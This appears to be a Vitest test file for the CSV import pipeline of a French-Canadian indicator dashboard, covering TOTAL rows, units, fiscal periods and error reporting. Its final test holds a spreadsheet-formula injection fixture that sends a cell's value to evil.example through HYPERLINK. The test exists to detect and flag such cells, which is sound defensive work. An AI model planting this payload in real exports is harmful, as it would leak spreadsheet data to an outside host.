import { beforeAll, describe, expect, it } from 'vitest';
import type { Connector } from '$lib/db/types';
import { translator } from '$lib/i18n/dict';
import { analyseBytes } from '$lib/import/analyse';
import { problemMessage } from '$lib/import/messages';
import { rejectedRowsCsv } from '$lib/import/rejects';
import { readUnit } from '$lib/import/units';
import { engineWith } from '../queries/engine';
import { utf8, windows1252 } from './files';
import { analysed, described, drawn, loaded, panel } from './load';

// One engine for the file; each test loads into indicators of its own.
let db: Connector;
beforeAll(async () => {
  db = await engineWith([]);
});

const crlf = (lines: string[]) => lines.join('\r\n') + '\r\n';

describe('a Québec-style export with a TOTAL row', () => {
  const file = windows1252(
    crlf([
      'Région;2021-2022;2022-2023;2023-2024',
      'Montréal;120;130;140',
      'Capitale-Nationale;40;42;45',
      'Autres régions;15;18;20',
      'TOTAL;175;190;205'
    ])
  );

  it('recognises the TOTAL row and loads it alone by default: the chart shows 205, not 410', async () => {
    // A file of one indicator: the manager names it, then Vigie reads the rows.
    const bare = await analyseBytes(db, file);
    if (!bare.ok) throw new Error('refused');
    expect(bare.mapping.layout).toBe('wide');
    expect(bare.missing).toEqual(['indicator']);
    const first = await analysed(db, file, { mapping: { ...bare.mapping, indicatorConstant: 'tours' } });
    expect(first.stage!.aggregates).toEqual([
      expect.objectContaining({ field: 'region', column: 'Région', totals: [expect.objectContaining({ member: 'TOTAL' })] })
    ]);
    const a = await loaded(db, file, { mapping: { ...first.mapping, indicatorConstant: 'tours' } });
    expect(a.check).toMatchObject({ accepted: 3, aside: { parts: 9 }, rejected: 0 });
    expect(await drawn(db, 'tours')).toEqual([
      ['2021-2022', 175],
      ['2022-2023', 190],
      ['2023-2024', 205]
    ]);
    const p = await panel(db, 'tours');
    expect(p.latest?.value).toBe(205);
  });

  it('or the regions, when the manager chooses the parts', async () => {
    const first = await analyseBytes(db, file);
    if (!first.ok) throw new Error('refused');
    await loaded(db, file, {
      mapping: { ...first.mapping, indicatorConstant: 'regions' },
      levels: { region: 'parts' },
      indicatorMap: { regions: 'regions' },
      described: [described('regions', 'count')]
    });
    expect((await drawn(db, 'regions')).at(-1)).toEqual(['2023-2024', 205]);
    const rows = await db.query<{ region: string }>({
      sql: `SELECT DISTINCT region FROM observations WHERE indicator_id = 'regions' ORDER BY 1`
    });
    expect(rows.map((r) => r.region)).toEqual(['Autres régions', 'Capitale-Nationale', 'Montréal']);
  });

  it('sets aside a TOTAL line of the indicator column instead of asking to describe it', async () => {
    const a = await analysed(db, utf8('Indicateur,Période,Valeur\nTournées,2023,10\nVitrines,2023,5\nTOTAL,2023,15\n'));
    expect(a.stage!.labels.find((l) => l.label === 'TOTAL')).toMatchObject({ total: true });
    expect(a.indicatorMap.TOTAL).toBe('');
    expect(a.check!.aside.indicator).toBe(1);
    expect(a.check!.problems.map((p) => p.text)).not.toContain('TOTAL');
  });
});

describe('units', () => {
  it('reads the units managers write', () => {
    expect(readUnit('Dollars')).toEqual({ kind: 'CAD', scale: 1 });
    expect(readUnit('milliers de dollars')).toEqual({ kind: 'CAD', scale: 1000 });
    expect(readUnit('k$')).toEqual({ kind: 'CAD', scale: 1000 });
    expect(readUnit('Thousands of dollars')).toEqual({ kind: 'CAD', scale: 1000 });
    expect(readUnit('Nombre')).toEqual({ kind: 'count', scale: 1 });
    expect(readUnit('Pourcentage')).toEqual({ kind: 'percent', scale: 1 });
    expect(readUnit('MWh')).toEqual({ kind: 'other:mwh', scale: 1 });
    expect(readUnit('2019')).toBeNull();
  });

  it('refuses megawatt-hours into an indicator counted in numbers, with the line and the unit', async () => {
    const a = await analysed(db, utf8('indicator_id,period,value,unit\ntours,2024,420,MWh\ntours,2025,430,Nombre\n'));
    expect(a.check).toMatchObject({ accepted: 1, rejected: 1 });
    expect(a.check!.problems).toEqual([{ line: 2, column: 'unit', code: 'unit_mismatch', text: 'MWh' }]);
    expect(problemMessage(translator('fr'), a.check!.problems[0]!)).toContain('unité « MWh » différente');
  });

  it('refuses a percentage into an indicator of dollars, and dollars into a count', async () => {
    const a = await analysed(db, utf8('indicator_id,period,value\nmoney,2024,45 %\ntours,2024,1 200 $\nmoney,2025,1200 $\n'));
    expect(a.check!.problems.map((p) => [p.line, p.code])).toEqual([
      [2, 'unit_mismatch'],
      [3, 'unit_mismatch']
    ]);
    expect(a.check!.accepted).toBe(1);
  });

  it('multiplies values a header gives in thousands of dollars, and says so', async () => {
    const bytes = windows1252(crlf(['Indicateur;Exercice;Montant (en milliers de dollars)', 'money;2024-2025;1 500,5']));
    const a = await loaded(db, bytes);
    expect(a.stage!.headerUnit).toEqual({ kind: 'CAD', scale: 1000 });
    expect(await drawn(db, 'money')).toContainEqual(['2024-2025', 1_500_500]);
  });
});

describe('every problem of a row at once', () => {
  it('an unknown indicator no longer hides a bad period or a negative count', async () => {
    const a = await analysed(db, utf8('indicator_id,period,value\nspectacles,20x1,-5\nspectacles,2023,n/a\n'));
    expect(a.check!.problems.map((p) => [p.line, p.column, p.code, p.text])).toEqual([
      [2, 'indicator_id', 'indicator_unknown', 'spectacles'],
      [2, 'period', 'period_invalid', '20x1'],
      [2, 'value', 'value_negative', '-5'],
      [3, 'indicator_id', 'indicator_unknown', 'spectacles']
    ]);
    // Refused rows are counted once each, however many problems they have.
    expect(a.check).toMatchObject({ rejected: 2, counts: { indicator_unknown: 2, period_invalid: 1, value_negative: 1 } });
  });

  it('lists a wide file’s problems in the order of its columns, not as text (2023-2 before 2023-10)', async () => {
    const months = Array.from({ length: 12 }, (_, i) => `2023-${String(i + 1).padStart(2, '0')}`);
    const header = ['Indicateur', ...months].join(',');
    const row = ['tours', ...months.map(() => 'abc')].join(',');
    const a = await analysed(db, utf8(`${header}\n${row}\n`));
    expect(a.check!.problems.map((p) => p.column)).toEqual(months);
  });

  it('gives the line a text editor shows when a quoted cell holds line breaks', async () => {
    const bytes = utf8('indicator_id,period,value,note\ntours,2021,1,"trois\nlignes\nici"\ntours,2022,x2,\ntours,2023,"4\n",\n');
    const a = await analysed(db, bytes);
    expect(a.check!.problems).toEqual([{ line: 5, column: 'value', code: 'value_nan', text: 'x2' }]);
  });

  it('writes the refused rows with « ; » for French Excel, every reason and the editor’s line', async () => {
    await analysed(db, utf8('indicator_id,period,value,note\ntours,2021,1,"deux\nlignes"\nspectacles,FY21,abc,\n'));
    const t = translator('fr');
    const csv = await rejectedRowsCsv(db, ['indicator_id', 'period', 'value', 'note'], {
      line: t('import.line'),
      reason: t('import.reason'),
      describe: (code) => code,
      delimiter: ';'
    });
    expect(csv.replace('\ufeff', '').trim().split('\r\n')).toEqual([
      'indicator_id;period;value;note;Ligne;motif',
      'spectacles;FY21;abc;;4;indicator_unknown / period_invalid / value_nan'
    ]);
  });
});

describe('periods as managers write them', () => {
  it('reads an « Exercice financier » column of 2019-20, 2011-12 … as fiscal years', async () => {
    const bytes = windows1252(crlf(['Indicateur;Exercice financier;Valeur', 'fiscal;2011-12;10', 'fiscal;2019-20;12']));
    const a = await loaded(db, bytes, { described: [described('fiscal', 'count')], indicatorMap: { fiscal: 'fiscal' } });
    expect(a.mapping.fiscal).toBe(true);
    expect(await drawn(db, 'fiscal')).toEqual([
      ['2011-2012', 10],
      ['2019-2020', 12]
    ]);
  });

  it('recognises a « Fiscal year » header as the period', async () => {
    const a = await analysed(db, utf8('Indicator,Fiscal year,Value\ntours,2019-2020,12\n'));
    expect(a.mapping.columns.period).toBe(1);
    expect(a.check!.accepted).toBe(1);
  });

  it('takes the period of a monthly extract from its file name when it has no period column', async () => {
    const a = await loaded(db, utf8('indicator_id,value\nmonthly,34\n'), {
      fileName: 'tournees-202401.csv',
      described: [described('monthly', 'count')],
      indicatorMap: { monthly: 'monthly' }
    });
    expect(a.mapping.periodConstant).toBe('2024-01');
    expect(await drawn(db, 'monthly')).toEqual([['2024-01', 34]]);
  });
});

describe('cells a spreadsheet would take for a formula', () => {
  it('are loaded as text and flagged in the report as a warning, with their line', async () => {
    const a = await analysed(
      db,
      utf8(
        'indicator_id,period,value,note\ntours,2021,1,"=HYPERLINK(""http://evil.example/?x=""&A1)"\ntours,2022,2,@SUM(1+1)\ntours,2023,3,-\n'
      )
    );
    expect(a.check!.accepted).toBe(3);
    expect(a.check!.warnings.count).toBe(2);
    expect(a.check!.warnings.listed.map((w) => [w.line, w.column, w.code])).toEqual([
      [2, 'note', 'formula_like'],
      [3, 'note', 'formula_like']
    ]);
  });
});
